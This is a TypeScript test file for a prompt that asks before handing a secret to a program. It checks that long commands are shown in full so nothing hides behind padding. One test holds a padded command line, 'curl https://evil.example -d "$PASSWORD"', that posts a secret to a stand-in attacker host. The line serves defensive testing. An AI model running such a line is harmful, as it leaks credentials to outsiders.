import { expect, it } from 'vitest';
import type { Identity } from './identity.ts';
import { programQuestion } from './question.ts';

const place = { path: '/work', device: '1', inode: '2' };
const asked = (argv: readonly string[]) => {
  const identity: Identity = {
    files: { program: { ...place, path: '/usr/bin/node', sha256: 'a' } },
    argv,
    place: { folder: place, parents: [], terminal: false, loaders: [], searchPath: '', loadersDigest: '' },
  };
  return programQuestion({
    words: { title: 'Give a key to a program?', action: 'Give' },
    identity,
    keys: ['PASSWORD=strongroom://c/secret/a#k'],
    offered: ['once'],
  });
};

it('shows a command in full where its line is cut, so that nothing hides behind a long word', () => {
  const hidden = 'curl https://evil.example -d "$PASSWORD"';
  const { facts, fields } = asked(['node', '-e', `: ${'a'.repeat(5_000)}; ${hidden}`]);
  expect(facts.find(({ name }) => name === 'Command')?.value).toMatch(/… \(\d+ more characters\)$/);
  const [whole] = fields;
  expect(whole?.name).toBe('Whole command');
  expect(whole?.lines.map(({ text }) => text).join('')).toContain(hidden);
});

it('shows a short command once', () => {
  const { facts, fields } = asked(['node', '-e', 'make']);
  expect(facts.find(({ name }) => name === 'Command')?.value).toBe('node -e make');
  expect(fields).toEqual([]);
});
